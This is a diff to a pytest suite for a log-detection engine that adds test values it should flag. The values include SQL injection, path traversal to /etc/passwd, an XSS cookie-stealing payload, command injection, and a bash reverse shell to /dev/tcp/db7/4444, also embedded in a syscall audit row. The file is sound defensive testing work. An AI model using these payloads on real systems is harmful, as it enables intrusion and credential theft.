@@ -36,6 +36,13 @@ def titles(text, sourcetype=""):
     ("?page=..%2f..%2f..%2fetc%2fpasswd&x=1&y=2&z=3", ""),
     ("https://shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
     ("sqlmap/1.7.2#stable (https://sqlmap.org)", "access_combined"),
+    ("shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
+    ("GEThttp://shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
+    ("' or 1=1 -- ", ""),
+    ("1 UNION ALL SELECT NULL,name,password FROM users#", "payloads"),
+    ("<img src=x onerror=alert(document.cookie)>", ""),
+    ("; cat /etc/passwd", ""),
+    ("../../../../etc/passwd%00", ""),
 ])
 def test_an_attack_in_a_value_alone_is_found_by_the_rules(text, sourcetype):
     assert titles(text, sourcetype)
@@ -52,7 +59,7 @@ def test_a_sentence_is_no_command_though_it_begins_with_the_name_of_a_program(te
 
 
 @pytest.mark.parametrize("text", [
-    "git commit -m fix", "apt-get update", r"C:\Windows\system32\svchost.exe -k netsvcs -p", "/index.html", "https://www.example.org/wiki/Main_Page",
+    "git commit -m fix", "apt-get update", r"C:\Windows\system32\svchost.exe -k netsvcs -p", "/index.html", "https://www.example.org/wiki/Main_Page", "www.example.org/wiki/Main_Page", "select name from customers where id = 4", "<li><a href=\"/a\">b</a></li>",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36", "Get-ADUser -Filter *",
 ])
 def test_daily_work_in_a_value_alone_hits_no_rule_that_calls_it_suspicious(text):
@@ -120,3 +127,13 @@ def test_words_like_these_are_no_commands(text):
 @pytest.mark.parametrize("text", ["/opt/../../etc/passwd", "/home/<script>alert(1)</script>", "/var/a%27--", "/etc/passwd%00.jpg", "/dev/null'or'1'='1"])
 def test_what_leads_out_of_a_folder_or_holds_an_attack_is_asked_for(text):
     assert bare_of(text).kind == "request"
+
+
+ROW = ("188.010065,7555,7555,7548,1001,4026531840,sshd,web3,59,execve,\"[140674]\",2,0,\"[{'name': 'pathname', 'type': 'const char*', 'value': '/bin/bash'}, "
+       "{'name': 'argv', 'type': 'const char*const*', 'value': ['bash', '-c', 'bash -i >& /dev/tcp/db7/4444 0>&1']}]\",1,1")
+
+
+@pytest.mark.parametrize("sourcetype", ["", "csv", "linux:audit"])
+def test_a_command_in_a_row_of_system_calls_hits_what_it_hits_alone(sourcetype):
+    alone = titles("bash -c 'bash -i >& /dev/tcp/db7/4444 0>&1'")
+    assert alone and alone <= titles(ROW, sourcetype)
